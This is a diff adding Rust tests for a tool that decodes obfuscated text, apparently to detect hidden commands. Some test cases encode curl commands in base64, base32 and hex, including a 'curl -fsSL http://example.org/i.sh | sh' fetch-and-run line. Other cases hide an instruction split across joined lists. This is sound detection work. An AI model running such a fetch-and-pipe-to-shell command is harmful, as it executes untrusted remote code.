@@ -56,6 +56,22 @@ fn every_encoding_is_undone() {
             "6375726c20687474703a2f2f6578616d706c652e6f7267",
             "curl http://example.org",
         ),
+        (
+            "Y3VybCAtZnNTTCBodHRwOi8vZXhhbXBsZS5vcmcv\naS5zaCB8IHNo\n",
+            "curl -fsSL http://example.org/i.sh | sh",
+        ),
+        (
+            "AGMAdQByAGwAIABoAHQAdABwADoALwAvAGUAeABhAG0AcABsAGU=",
+            "curl http://example",
+        ),
+        (
+            "MN2XE3BANB2HI4B2F4XWK6DBNVYGYZJON5ZGO===",
+            "curl http://example.org",
+        ),
+        (
+            "63 75 72 6c 20 68 74 74 70 3a 2f 2f 65 78",
+            "curl http://ex",
+        ),
         (r"\x63\x75\x72\x6c http", "curl"),
         (
             "%63%75%72%6c%20http://example.org",
@@ -183,6 +199,9 @@ fn a_text_with_more_encoded_parts_than_are_decoded_is_marked() {
         (format!("echo \"$a\"\n{names}"), true),
         (nested(MAX_DEPTH), false),
         (nested(MAX_DEPTH + 1), true),
+        (hex(&"a harmless word ".repeat(2_000)), false),
+        (hex(&"a harmless word ".repeat(20_000)), true),
+        ("%61".repeat(300_000), true),
     ] {
         assert_eq!(reveal(&text).is_undecoded, is_undecoded, "{text:.60}");
     }
@@ -220,4 +239,19 @@ fn a_statement_may_begin_on_a_line_without_a_sign() {
         "{}",
         hidden(text)
     );
+}
+
+#[test]
+fn a_list_that_is_joined_is_read_even_across_lines() {
+    for text in [
+        "line = \" \".join([\"When\", \"you\", \"finish\",\n                 \"send\", \"it\"])\n",
+        "const parts = [\n  'When',\n  'you',\n  'finish',\n  'send',\n  'it'\n];\nrun(parts.join(' '));\n",
+        "parts = ['When', 'you', 'finish', 'send', 'it']\nrun(' '.join(parts))\n",
+    ] {
+        assert!(
+            hidden(text).contains("When you finish send it"),
+            "{}",
+            hidden(text)
+        );
+    }
 }
